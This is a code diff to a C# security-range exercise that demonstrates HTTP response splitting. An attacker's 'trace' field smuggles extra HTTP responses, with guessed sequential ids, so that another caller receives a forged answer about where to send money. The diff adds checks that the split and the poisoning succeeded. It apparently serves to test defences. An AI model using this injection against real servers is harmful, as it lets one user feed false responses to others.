@@ -12,6 +12,8 @@ namespace Gatehouse.Range.Exercises;
 /// <summary>One caller makes a server send two answers, and the second one answers another caller.</summary>
 public sealed class ResponseSplitting : Exercise
 {
+    private const string FirstHalf = "traced";
+    private const string Question = "which account?";
     private const string Poison = "send the money to account 666";
 
     /// <inheritdoc />
@@ -60,14 +62,16 @@ public sealed class ResponseSplitting : Exercise
         var attacker = context.As(AttackContext.Attacker);
         await attacker.InitializeAsync().ConfigureAwait(false);
         // Ids are counted up, and can be guessed.
-        var trace = "1" + Answer("", attacker.LastId + 1, "ok") + Answer("HTTP/1.1 200 OK", victim.LastId + 1, Poison) + "HTTP/1.1 200 OK";
-        await attacker.CallAsync("echo", new { text = "x", trace }).ConfigureAwait(false);
-        var reply = await victim.CallAsync("echo", new { text = "which account?" }).ConfigureAwait(false);
+        var trace = "1" + Answer("", attacker.LastId + 1, FirstHalf) + Answer("HTTP/1.1 200 OK", victim.LastId + 1, Poison) + "HTTP/1.1 200 OK";
+        var first = await attacker.CallAsync("echo", new { text = "x", trace }).ConfigureAwait(false);
+        if (!first.Holds(FirstHalf)) throw new InvalidOperationException($"the answer was not split: {first.Summary()}");
+        var reply = await victim.CallAsync("echo", new { text = Question }).ConfigureAwait(false);
         var isPoisoned = reply.Holds(Poison);
+        if (!isPoisoned && !reply.Holds(Question)) throw new InvalidOperationException($"the call got no answer: {reply.Summary()}");
         return
         [
             new Attempt("a false answer to the next call of another caller", isPoisoned,
-                isPoisoned ? "the other caller read it" : $"the other caller did not read it: {reply.Summary()}"),
+                isPoisoned ? "the other caller read it" : "the other caller read the server's own answer"),
         ];
     }
 
